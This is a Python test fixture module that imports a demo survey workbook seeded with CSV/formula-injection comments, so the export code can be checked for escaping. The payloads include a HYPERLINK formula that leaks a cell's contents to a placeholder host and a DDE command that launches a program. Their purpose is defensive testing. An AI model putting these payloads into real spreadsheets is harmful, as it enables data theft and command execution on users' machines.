"""Shared data for the export tests: the demo wave imported through the real importer, with
hostile comments typed by one delegation, and its real summary."""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from analysis import summarize
from surveys.demo import demo_rows
from surveys.storage.importer import import_files
from surveys.storage.store import open_store

WAVE = "export-test"


#: Comments a delegation could type; each would run as a formula in a spreadsheet (OWASP).
INJECTIONS: dict[str, str] = {
    "q1_comment": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "q2_comment": "+1",
    "q3_comment": "@SUM(A1:A9)",
    "q5_comment": "-2+3",
    "q6_comment": "=cmd|' /C calc'!A0",  # DDE; the importer trims a leading tab
}


INJECTED_ROW = 3  # United Kingdom in the demo rows


@dataclass(frozen=True)
class ExportedWave:
    url: str
    store: Any
    data: Any
    summary: Any


def write_injected_workbook(path: Path) -> Path:
    """The demo answers as a workbook, with :data:`INJECTIONS` as one delegation's comments.

    The cells are stored as text (as Excel stores what a user types after a quote), so the
    reader gets the strings, not formulas.
    """
    header, rows = demo_rows()
    book = Workbook()
    sheet = book.active
    sheet.title = "responses"
    sheet.append(header)
    for r, row in enumerate(rows):
        row = list(row)
        if r == INJECTED_ROW:
            for item, text in INJECTIONS.items():
                row[header.index(item)] = text
        sheet.append(row)
    for cell in sheet[INJECTED_ROW + 2]:
        if cell.column_letter and cell.value in INJECTIONS.values():
            cell.data_type = "s"
    book.save(path)
    return path


def exported_wave(folder: Path) -> ExportedWave:
    """A fresh SQLite store in ``folder`` holding the injected demo wave, and its summary."""
    url = f"sqlite:///{folder / 'exports.sqlite'}"
    store = open_store(url)
    import_files(store, [write_injected_workbook(folder / "answers.xlsx")], wave=WAVE)
    data = store.load_wave(WAVE)
    return ExportedWave(url, store, data, summarize(data))


def cjk_font_or_skip() -> str:
    """The CJK font family charts use; skips the test when the machine has none."""
    import pytest

    from analysis.present.fonts import MissingFont, installed_font

    try:
        found = installed_font("zh")
        if found is None:
            raise MissingFont("no CJK font")
        return found[1]
    except MissingFont as exc:
        pytest.skip(f"no font with Chinese glyphs installed: {exc}")
